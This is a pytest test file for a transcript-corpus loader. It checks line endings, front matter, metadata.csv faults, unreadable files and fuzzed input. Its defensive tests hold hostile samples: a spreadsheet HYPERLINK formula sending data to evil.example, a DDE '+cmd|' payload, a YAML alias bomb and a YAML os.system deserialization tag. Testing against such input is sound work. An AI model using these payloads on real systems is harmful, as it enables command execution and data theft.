"""Hostile and odd inputs (issue #12): nothing lost, nothing overwritten, nothing hangs.

Each test is one kind of odd input, checked for the value the loader must give it; the
fuzz tests at the end feed random bytes, Unicode, line endings and front matter to
``parse_text`` and ``load_corpus``. ``make fuzz`` runs them with thousands of examples
(``FUZZ_EXAMPLES``); the normal suite runs a few dozen.
"""

from __future__ import annotations

import csv
import os
import signal
import string
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pandas as pd
import pytest
from conftest import AVAILABILITY, DATA, INTERVIEW
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import analysis
from analysis.cli import main
from analysis.decode import LoadError
from analysis.phrases import MAX_WINDOW, kwic

SEED = (DATA / f"{INTERVIEW}.txt").read_bytes()
AVAIL = (DATA / f"{AVAILABILITY}.txt").read_text(encoding="utf-8")
BRIEFING = (
    "---\ntags: press-briefings\ndate: '2022-01-04'\n"
    "modified_time: 2022-01-04 19:50:00-05:00\n"
    "source_url: https://example.gov/briefing-room/press-briefings/2022/01/04/x/\n"
    'title: "Press Briefing by Press Secretary Jen Psaki, January 4, 2022"\n---\n \n'
    "James S. Brady Press Briefing Room\n\n3:05 P.M. EST\n\n"
    "MS. PSAKI:  Hi, everyone.  Two items for you at the top.\n\n"
    "Q  Thanks, Jen.  Why now?\n\nMS. PSAKI:  Because the time is now.\n\n"
    "Q  And the schools?\n\nMS. PSAKI:  They should be open.\n\n3:56 P.M. EST\n"
)


@contextmanager
def deadline(seconds: int) -> Iterator[None]:
    """Fail, rather than hang the suite, when the block takes longer than ``seconds``."""

    def stop(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    old = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    except TimeoutError as err:
        pytest.fail(str(err), pytrace=False)  # a clean failure, not a traceback into C
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def problems_of(c: analysis.Corpus, name: str) -> list[str]:
    """Messages of the problem rows whose path ends with ``name``."""
    p = c.problems
    return p.loc[p["path"].str.endswith(name), "message"].tolist()


def check_lossless(c: analysis.Corpus) -> None:
    """Every offset points into documents.text; the segments cover each text exactly once."""
    docs = c.documents.set_index("doc_id")["text"]
    assert c.documents["doc_id"].is_unique
    for table in ("turns", "sentences", "tokens", "quotes", "segments"):
        df = getattr(c, table)
        bad = [r for r in df.itertuples() if docs[r.doc_id][r.start : r.end] != r.text]
        assert bad == [], table
    for doc_id, text in docs.items():
        g = c.segments[c.segments["doc_id"] == doc_id]
        assert "".join(g["text"]) == text
        if len(g):
            assert g["start"].iloc[0] == 0 and g["end"].iloc[-1] == len(text)
            assert (g["end"].to_numpy()[:-1] == g["start"].to_numpy()[1:]).all()
        else:
            assert text == ""


# -- 1. file names ------------------------------------------------------------------------


def test_same_stem_as_html_and_txt_loads_both(tmp_path):
    (tmp_path / "interview.txt").write_bytes(SEED)
    (tmp_path / "interview.html").write_text("<p>MR. X: Hi.</p>", encoding="utf-8")
    c = analysis.load_corpus(tmp_path)
    d = c.documents.set_index("doc_id")
    assert sorted(d.index) == ["interview.html", "interview.txt"]
    assert d.loc["interview.txt", "n_turns"] == 17
    assert c.turns.loc[c.turns["doc_id"] == "interview.html", "text"].tolist() == ["Hi."]
    assert list(c.tokens["doc_id"].cat.categories) == ["interview.html", "interview.txt"]
    check_lossless(c)


def test_same_name_in_two_folders_and_a_file_listed_twice(tmp_path):
    for sub in ("a", "b"):
        (tmp_path / sub).mkdir()
        (tmp_path / sub / "x.txt").write_text(f"MS. LEE:  From {sub}.", encoding="utf-8")
    (tmp_path / "b" / "x.md").write_text("MS. LEE:  Markdown.", encoding="utf-8")
    c = analysis.load_corpus(tmp_path)
    ids = dict(zip(c.documents["path"], c.documents["doc_id"], strict=True))
    assert sorted(ids.values()) == ["a/x", "b/x", "x.md"]
    assert ids[str(tmp_path / "a" / "x.txt")] == "a/x"
    one = tmp_path / "a" / "x.txt"
    twice = analysis.load_corpus([one, tmp_path / "a" / ".." / "a" / "x.txt"])
    assert twice.documents["doc_id"].tolist() == ["x"]
    assert problems_of(twice, "x.txt") == [f"the same file as {one}: read once"]


def test_cli_loads_both_files_with_the_same_stem(tmp_path, capsys):
    (tmp_path / "interview.txt").write_bytes(SEED)
    (tmp_path / "interview.html").write_text("<p>MR. X: Hi.</p>", encoding="utf-8")
    assert main(["load", str(tmp_path), "--csv"]) == 0
    out = capsys.readouterr().out
    assert [ln.split(",")[0] for ln in out.splitlines()[1:]] == ["interview.html", "interview.txt"]


# -- 3 and 7. line endings --------------------------------------------------------------


def test_windows_line_endings_keep_the_front_matter(tmp_path):
    (tmp_path / "x.md").write_bytes(BRIEFING.replace("\n", "\r\n").encode("utf-8"))
    c = analysis.load_corpus(tmp_path)
    d = c.documents.iloc[0]
    assert d["title"] == "Press Briefing by Press Secretary Jen Psaki, January 4, 2022"
    assert d["date"] == pd.Timestamp("2022-01-04")
    assert d["kind"] == "press briefing"
    assert d["text"] == BRIEFING  # normalised: CR LF became LF
    assert c.segments["kind"].iloc[0] == "front_matter"
    n = BRIEFING.count("\n")
    assert problems_of(c, "x.md") == [
        f"line endings normalised to \\n: {n} CR LF (Windows); offsets point into the "
        "normalised text"
    ]
    assert c.turns["speaker"].tolist() == ["MS. PSAKI", "Q", "MS. PSAKI", "Q", "MS. PSAKI"]
    check_lossless(c)


def test_lone_cr_line_endings_keep_the_turns():
    c = analysis.parse_text(AVAIL.replace("\n", "\r"))
    assert len(c.turns) == 21
    assert c.turns["speaker"].tolist()[:3] == ["SECRETARY BLINKEN", "MR PRICE", "QUESTION"]
    assert c.documents["text"].iloc[0] == AVAIL
    assert (
        c.problems["message"]
        .iloc[0]
        .startswith(f"line endings normalised to \\n: {AVAIL.count(chr(10))} lone CR (old Mac)")
    )
    check_lossless(c)


def test_mixed_line_endings_count_every_removed_character():
    text = "MS. LEE:  One.\r\n\r\nQ  Two?\r\rMS. LEE:  Three.\n\nQ  Four?"
    c = analysis.parse_text(text)
    assert c.turns["text"].tolist() == ["One.", "Two?", "Three.", "Four?"]
    doc = c.documents["text"].iloc[0]
    assert len(text) - len(doc) == 2  # two CRs of CR LF removed; lone CRs became LF
    assert "2 CR LF (Windows) and 2 lone CR (old Mac)" in c.problems["message"].iloc[0]


# -- 4 and 9. front matter ----------------------------------------------------------------


def test_impossible_front_matter_date_keeps_the_transcript(tmp_path):
    bad = BRIEFING.replace("date: '2022-01-04'", "date: 2022-02-30")
    (tmp_path / "2022-01-04-briefing.md").write_text(bad, encoding="utf-8")
    (tmp_path / "titled.md").write_text(bad, encoding="utf-8")  # its title has the date
    (tmp_path / "undated.md").write_text(bad.replace(", January 4, 2022", ""), encoding="utf-8")
    c = analysis.load_corpus(tmp_path)
    d = c.documents.set_index("doc_id")
    assert d.loc["2022-01-04-briefing", "date"] == pd.Timestamp("2022-01-04")
    assert d.loc["titled", "date"] == pd.Timestamp("2022-01-04")
    assert pd.isna(d.loc["undated", "date"])
    assert d.loc["undated", "n_turns"] == 5
    assert problems_of(c, "2022-01-04-briefing.md") == [
        "front matter date '2022-02-30' is not a real date: the file name date (2022-01-04) is used"
    ]
    assert problems_of(c, "undated.md") == [
        "front matter date '2022-02-30' is not a real date: the date is left empty"
    ]
    assert problems_of(c, "titled.md") == [
        "front matter date '2022-02-30' is not a real date: the page date (2022-01-04) is used"
    ]


def test_yaml_alias_bomb_is_refused_quickly():
    levels = [f"l0: &l0 [{', '.join(['lol'] * 9)}]"]
    for i in range(1, 9):
        levels.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]")
    text = "---\n" + "\n".join(levels) + "\ntitle: *l8\n---\nMS. LEE:  Hi.\n\nQ  Why?"
    t0 = time.perf_counter()
    with deadline(30):
        c = analysis.parse_text(text)
    assert time.perf_counter() - t0 < 5
    assert c.documents["title"].iloc[0] == ""
    assert c.turns["text"].tolist() == ["Hi.", "Why?"]
    seg = c.segments
    assert seg["kind"].iloc[0] == "front_matter"
    assert seg["text"].iloc[0] == text[: text.index("MS. LEE")]
    assert c.problems["message"].tolist() == [
        "front matter uses a YAML alias (*name), which is refused rather than expanded (a few "
        "lines of aliases can expand to gigabytes): its fields were not read"
    ]


def test_front_matter_that_is_not_yaml_is_text_and_said_so():
    c = analysis.parse_text("---\ntitle: [unclosed\n---\nMS. LEE:  Hi.\n\nQ  Why?")
    assert c.segments["kind"].iloc[0] != "front_matter"
    (msg,) = c.problems.loc[c.problems["severity"] == "warning", "message"]
    assert msg.startswith("opens with '---' but the block before the next '---' line is not")
    check_lossless(c)


# -- 5. spreadsheet formulas ----------------------------------------------------------------


def test_formulas_are_neutralised_in_csv_only(tmp_path):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    c = analysis.parse_text(
        "MS. LEE:  +cmd|' /C calc'!A0\n\nQ  @SUM(1+1)*cmd\n\nMS. LEE:  -2+3\n\nQ  Fine.",
        title=title,
        doc_id="=doc",
    )
    out = c.save(tmp_path, formats=("csv", "parquet"))
    with open(out / "documents.csv", newline="", encoding="utf-8") as f:
        doc = next(csv.DictReader(f))
    assert doc["title"] == "'" + title
    assert doc["doc_id"] == "'=doc"
    with open(out / "turns.csv", newline="", encoding="utf-8") as f:
        turns = [r["text"] for r in csv.DictReader(f)]
    assert turns == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "'-2+3", "Fine."]
    with open(out / "tokens.csv", newline="", encoding="utf-8") as f:
        assert {r["doc_id"] for r in csv.DictReader(f)} == {"'=doc"}
    # Parquet and the tables in memory keep the true values
    assert pd.read_parquet(out / "documents.parquet")["title"].tolist() == [title]
    assert pd.read_parquet(out / "turns.parquet")["text"].tolist()[0] == "+cmd|' /C calc'!A0"
    assert c.documents["title"].tolist() == [title]
    assert pd.read_parquet(out / "turns.parquet")["start"].tolist()[0] == 10  # numbers as is


# -- 6. metadata.csv ------------------------------------------------------------------------


def write_meta(folder: Path, text: str) -> Path:
    (folder / "metadata.csv").write_text(text, encoding="utf-8")
    return folder / "metadata.csv"


def test_metadata_faults_are_problems_naming_file_line_and_field(tmp_path):
    (tmp_path / "2023-07-11_a.txt").write_bytes(SEED)
    (tmp_path / "b.txt").write_bytes(SEED)
    meta = write_meta(
        tmp_path,
        "doc_id,title,date,kind,colour\n"
        "2023-07-11_a,Title A,2023-13-45,interview,red\n"
        "b,Title B,2021-05-06,,\n"
        "b,Title B again,2022-01-01,,\n"
        "ghost,Nobody,2020-01-01,,\n",
    )
    c = analysis.load_corpus(tmp_path)
    d = c.documents.set_index("doc_id")
    assert d.loc["2023-07-11_a", "title"] == "Title A"  # the rest of the row is kept
    assert d.loc["2023-07-11_a", "date"] == pd.Timestamp("2023-07-11")  # from the file name
    assert d.loc["b", "title"] == "Title B"  # the first row wins, not the last
    assert d.loc["b", "date"] == pd.Timestamp("2021-05-06")
    assert problems_of(c, "metadata.csv") == [
        "the header: column(s) 'colour' not used (known: title, date, kind, outlet, "
        "location, source)",
        "line 2: date '2023-13-45' of '2023-07-11_a' is not a real date: the rest of the row "
        "is used, the date comes from the front matter or the file name",
        "line 4: doc_id 'b' repeats line 3: this row is not used (the first one is)",
        "line 5: doc_id 'ghost' matches no file loaded: row not used",
    ]
    assert set(c.problems.loc[c.problems["path"] == str(meta), "severity"]) == {
        "info",
        "warning",
    }


@pytest.mark.parametrize(
    "content, message",
    [
        ("", "the file: the file is empty: metadata not used"),
        (
            "title,date\nx,2020-01-01\n",
            "the header: needs a doc_id column (found title, date): metadata not used",
        ),
    ],
)
def test_unusable_metadata_is_reported_and_the_documents_load(tmp_path, content, message):
    (tmp_path / "a.txt").write_bytes(SEED)
    write_meta(tmp_path, content)
    c = analysis.load_corpus(tmp_path)
    assert c.documents["doc_id"].tolist() == ["a"]
    assert problems_of(c, "metadata.csv") == [message]
    with pytest.raises(LoadError, match=r"metadata\.csv"):
        analysis.load_corpus(tmp_path, errors="raise")


def test_a_malformed_metadata_row_loses_only_that_row(tmp_path):
    (tmp_path / "a.txt").write_bytes(SEED)
    (tmp_path / "b.txt").write_bytes(SEED)
    write_meta(tmp_path, "doc_id,title,outlet\na,Title, with a comma,NBC,extra\nb,Title B\n")
    c = analysis.load_corpus(tmp_path)
    d = c.documents.set_index("doc_id")
    assert d.loc["b", "title"] == "Title B"
    assert problems_of(c, "metadata.csv") == [
        "line 2: 5 fields, the header has 3 (an unquoted comma?): row not used",
        "line 3: 2 fields, the header has 3: the missing ones (outlet) are left empty",
    ]


def test_metadata_by_stem_reaches_both_copies_of_a_page(tmp_path):
    (tmp_path / "interview.txt").write_bytes(SEED)
    (tmp_path / "interview.html").write_text("<p>MR. X: Hi.</p>", encoding="utf-8")
    write_meta(tmp_path, "doc_id,title\ninterview,The Interview\n")
    c = analysis.load_corpus(tmp_path)
    assert c.documents["title"].tolist() == ["The Interview", "The Interview"]
    assert problems_of(c, "metadata.csv") == []


# -- 8. kwic --------------------------------------------------------------------------------


def test_kwic_window_is_capped_with_a_clear_error(seeds, capsys):
    with deadline(20), pytest.raises(ValueError, match="at most 1,000 words either side"):
        kwic(seeds, "outlast", window=10_000_000)
    assert len(kwic(seeds, "outlast", window=MAX_WINDOW)) > 0
    with deadline(20), pytest.raises(SystemExit) as exc:
        main(["kwic", str(DATA), "outlast", "--window", "10000000"])
    assert exc.value.code == 2
    assert "--window: at most 1,000 words either side" in capsys.readouterr().err


# -- 10. unreadable files -------------------------------------------------------------------


def test_permission_denied_is_reported_as_such(tmp_path, monkeypatch):
    (tmp_path / "good.txt").write_bytes(SEED)
    (tmp_path / "locked.txt").write_bytes(SEED)
    real_open = os.open

    def refuse(path, *args, **kwargs):  # the tests may run as root, whom chmod cannot stop
        if str(path).endswith("locked.txt"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    c = analysis.load_corpus(tmp_path)
    assert c.documents["doc_id"].tolist() == ["good"]
    (row,) = c.problems.loc[c.problems["path"].str.endswith("locked.txt")].itertuples()
    assert row.severity == "error"
    assert row.message == "permission denied (the file's permissions do not let it be read)"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
def test_a_fifo_in_a_list_is_refused_not_read(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    (tmp_path / "good.txt").write_bytes(SEED)
    with deadline(20):
        c = analysis.load_corpus([fifo, tmp_path / "good.txt"])
        in_folder = analysis.load_corpus(tmp_path)
    assert c.documents["doc_id"].tolist() == ["good"]
    assert problems_of(c, "pipe.txt") == ["a named pipe (FIFO), not a file: only files are read"]
    assert problems_of(in_folder, "pipe.txt") == problems_of(c, "pipe.txt")


# -- 11. smaller ----------------------------------------------------------------------------


def test_bom_only_file_is_empty_like_an_empty_file(tmp_path):
    (tmp_path / "bom.txt").write_bytes(b"\xef\xbb\xbf")
    (tmp_path / "bomspace.txt").write_bytes(b"\xef\xbb\xbf \n")
    (tmp_path / "empty.txt").write_bytes(b"")
    c = analysis.load_corpus(tmp_path)
    assert c.documents.empty
    assert problems_of(c, "bom.txt") == ["the file is empty (only a byte-order mark)"]
    assert problems_of(c, "bomspace.txt") == [
        "the file is empty (only a byte-order mark and white space)"
    ]
    assert set(c.problems["severity"]) == {"error"}


def test_text_file_that_mentions_body_keeps_its_tags(tmp_path):
    text = "MS. LEE:  Put it in the <body> tag, in <b>bold</b>.\n\nQ  Why <b>?"
    (tmp_path / "t.txt").write_text(text, encoding="utf-8")
    c = analysis.load_corpus(tmp_path)
    assert c.documents["text"].iloc[0] == text
    assert c.turns["text"].tolist() == ["Put it in the <body> tag, in <b>bold</b>.", "Why <b>?"]
    assert c.problems.empty
    page = analysis.parse_text("<body><p>MS. LEE:  Hi.</p></body>")
    assert page.turns["text"].tolist() == ["Hi."]


def test_a_label_too_long_to_be_one_is_reported():
    text = "A" * 500 + ":  I said this speech.\n\nMS. LEE:  Hello there.\n\nQ  Why?"
    c = analysis.parse_text(text)
    assert c.segments["kind"].iloc[0] == "boilerplate"
    assert c.problems["message"].tolist() == [
        f"characters 0–{text.index(chr(10))} open like a speaker label "
        f"('{'A' * 30}…', 500 characters) too long to be one: read as boilerplate, so "
        "those words are in no turn; check the file"
    ]


def test_links_to_folders_are_followed_and_dangling_links_reported(tmp_path):
    real = tmp_path / "elsewhere"
    real.mkdir()
    (real / "linked.txt").write_bytes(SEED)
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "own.txt").write_bytes(SEED)
    (corpus / "more").symlink_to(real, target_is_directory=True)
    (corpus / "loop").symlink_to(corpus, target_is_directory=True)
    (corpus / "gone.txt").symlink_to(tmp_path / "deleted.txt")
    (corpus / "notes.doc").write_bytes(b"\xd0\xcf\x11\xe0")
    c = analysis.load_corpus(corpus)
    assert c.documents["doc_id"].tolist() == ["linked", "own"]
    assert problems_of(c, "more") == [f"link to the folder {real}: read"]
    assert problems_of(c, "loop") == [
        f"link to a folder already read ({corpus}): not followed again"
    ]
    assert problems_of(c, "gone.txt") == [
        f"dangling link (to {tmp_path / 'deleted.txt'}, which does not exist): nothing to read"
    ]
    assert problems_of(c, "corpus") == [
        "1 file(s) not read, their extension is not a transcript's (.txt, .md, .markdown, "
        ".text, .html, .htm, .docx, .odt, .pdf, .rtf, .srt, .vtt): .doc (1)"
    ]


def test_over_size_message_names_the_cli_option_too(tmp_path, capsys):
    (tmp_path / "big.txt").write_bytes(SEED)
    c = analysis.load_corpus(tmp_path, max_bytes=1000)
    (msg,) = problems_of(c, "big.txt")
    assert msg == (
        f"{len(SEED):,} bytes is over the 1,000 bytes limit for one transcript; split it, or "
        "raise the limit (max_bytes= in load_corpus, --max-bytes on the command line)"
    )
    assert main(["load", str(tmp_path), "--csv", "--max-bytes", "1k"]) == 2
    assert main(["load", str(tmp_path), "--csv", "--max-bytes", "1MB"]) == 0
    assert capsys.readouterr().out.splitlines()[1].startswith("big,interview,")


# -- fuzz -----------------------------------------------------------------------------------

N = int(os.environ.get("FUZZ_EXAMPLES", "25"))
FUZZ = settings(
    max_examples=N,
    deadline=None,
    derandomize=N <= 100,  # the normal suite is deterministic; make fuzz explores
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
NEWLINES = st.sampled_from(["\n", "\r\n", "\r", "\n\n", "\r\n\r\n", "\r\r", "\n\r"])
PIECES = st.sampled_from(
    [
        "MS. LEE:  ",
        "Q  ",
        "QUESTION:  ",
        "THE PRESIDENT:  ",
        "(Laughter.)",
        "# # #",
        "END 1:45 P.M. EST",
        "3:05 P.M. EST",
        "<body>",
        "<b>",
        "A" * 40 + ":",
        "\ufeff",
        "\u2028",
        "\x85",
        "---",
        "“",
        "’",
    ]
)
WORDS = st.text(string.ascii_letters + " .,?!'’—-:()", min_size=0, max_size=40)
FM_VALUES = st.one_of(
    st.sampled_from(
        [
            "2022-02-30",
            "2022-01-04",
            "'2022-01-04'",
            "2022-01-04 19:50:00-05:00",
            "2022-01-05T10:00:00Z",
            "July 4, 2022",
            "&a [1, 2]",
            "*a",
            "[*a, *a]",
            "!!python/object/apply:os.system ['true']",
            "'=HYPERLINK(1)'",
            "{",
            "|",
        ]
    ),
    WORDS,
)


@st.composite
def front_matters(draw: st.DrawFn) -> str:
    keys = draw(st.lists(st.sampled_from(["title", "date", "tags", "source_url", "x"]), max_size=5))
    lines = [f"{k}: {draw(FM_VALUES)}" for k in keys]
    return "---" + draw(NEWLINES) + draw(NEWLINES).join(lines) + draw(NEWLINES) + "---"


@st.composite
def documents(draw: st.DrawFn) -> str:
    parts = [draw(front_matters())] if draw(st.booleans()) else []
    for _ in range(draw(st.integers(0, 12))):
        parts.append(draw(st.one_of(PIECES, WORDS)) + draw(WORDS))
        parts.append(draw(NEWLINES))
    return "".join(parts)


TEXTS = st.one_of(documents(), st.text(max_size=300), front_matters())


def expected_text(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@FUZZ
@given(TEXTS)
def test_fuzz_parse_text(text):
    c = analysis.parse_text(text)
    check_lossless(c)
    doc = c.documents["text"].iloc[0]
    if not analysis.decode.looks_like_html(expected_text(text)):
        # every character is in the text, or counted as a removed CR
        assert doc == expected_text(text)
        if "\r" in text:
            assert "line endings normalised" in " ".join(c.problems["message"])


FILES = st.one_of(
    st.binary(max_size=400),
    st.builds(
        lambda t, enc: t.encode(enc, "replace"),
        documents(),
        st.sampled_from(["utf-8", "utf-16", "cp1252", "utf-8-sig"]),
    ),
)


@FUZZ
@given(
    st.lists(st.tuples(st.sampled_from(["a.txt", "a.md", "a.html", "b.txt"]), FILES), max_size=4)
)
def test_fuzz_load_corpus(files):
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "in"
        folder.mkdir()
        for name, data in files:
            (folder / name).write_bytes(data)
        before = {p.name: p.read_bytes() for p in folder.iterdir()}
        with deadline(60):
            c = analysis.load_corpus(folder)
        check_lossless(c)
        # every file is a document or an error naming it; nothing was written to the input
        loaded = set(c.documents["path"])
        failed = set(c.problems.loc[c.problems["severity"] == "error", "path"])
        for p in folder.iterdir():
            assert (str(p) in loaded) != (str(p) in failed), p.name
        assert not (failed & loaded)
        assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
        assert not c.problems["message"].str.contains("please report").any()


def test_an_unreadable_subfolder_is_reported(tmp_path, monkeypatch):
    (tmp_path / "good.txt").write_bytes(SEED)
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "inside.txt").write_bytes(SEED)
    real_scandir = os.scandir

    def refuse(path="."):  # as root, chmod cannot lock a folder
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", refuse)
    c = analysis.load_corpus(tmp_path)
    assert c.documents["doc_id"].tolist() == ["good"]
    assert problems_of(c, "locked") == [
        "folder cannot be read (permission denied): the files in it are not loaded"
    ]


def test_dates_in_several_time_zones_share_the_date_column(tmp_path):
    dates = {"a": "2022-01-04 19:50:00-05:00", "b": "2022-01-05", "c": "2022-01-05T10:00:00Z"}
    for name, date in dates.items():
        (tmp_path / f"{name}.md").write_text(
            f"---\ndate: {date}\n---\nMS. LEE:  Hi.\n", encoding="utf-8"
        )
    c = analysis.load_corpus(tmp_path)
    assert c.documents["date"].tolist() == [
        pd.Timestamp("2022-01-04 19:50"),  # the time as printed, its UTC offset dropped
        pd.Timestamp("2022-01-05"),
        pd.Timestamp("2022-01-05 10:00"),
    ]
    assert c.problems.empty


def test_damaged_word_odt_rtf_pdf_and_caption_files_are_reported_not_crashed_on(tmp_path):
    # 60 damaged copies of each kind (bytes flipped, cut out or put in, by a seeded random
    # generator): each loads or is reported for what it is, never by the catch-all for a bug
    import io
    import random
    import zipfile

    from pdfs import pdf

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        z.writestr(
            "word/document.xml",
            f"<w:document {ns}><w:body><w:p><w:r><w:t>MS. LEE:  Hi.</w:t></w:r></w:p>"
            "</w:body></w:document>",
        )
    from test_decode import _odt

    _odt(tmp_path / "sound.odt", ["A title", "MS. LEE:  Hi.", "Q  Why?"])
    odt = (tmp_path / "sound.odt").read_bytes()
    (tmp_path / "sound.odt").unlink()
    sound = {
        ".docx": buf.getvalue(),
        ".odt": odt,
        ".pdf": pdf([["MS. LEE:  Hello there.", "Q  Why now?"]]),
        ".srt": b"1\n00:00:01,000 --> 00:00:02,000\nJANE DOE: Hello.\n",
        ".vtt": b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v Jane Doe>Hello.\n",
        ".rtf": rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\pict\bin3 }{}}{\b MS. LEE:}  Caf\'e9 "
        rb"\u8212? \ldblquote Hi.\rdblquote\par Q  Why?\par}",
    }
    rng = random.Random(7)
    for i in range(60):
        for ext, good in sound.items():
            b = bytearray(good)
            for _ in range(rng.randint(1, 20)):
                pos = rng.randrange(max(1, len(b)))
                op = rng.random()
                if op < 0.4 and b:
                    b[pos] = rng.randrange(256)
                elif op < 0.7:
                    del b[pos : pos + rng.randint(1, 30)]
                else:
                    b[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 30)))
            (tmp_path / f"f{i}{ext}").write_bytes(bytes(b))
    c = analysis.load_corpus(tmp_path, workers=1)
    assert not c.problems["message"].str.startswith("could not be parsed").any()
    errors = c.problems.loc[c.problems["severity"] == "error", "path"]
    assert len(c.documents) + errors.nunique() == 360  # every file loaded or refused
    check_lossless(c)
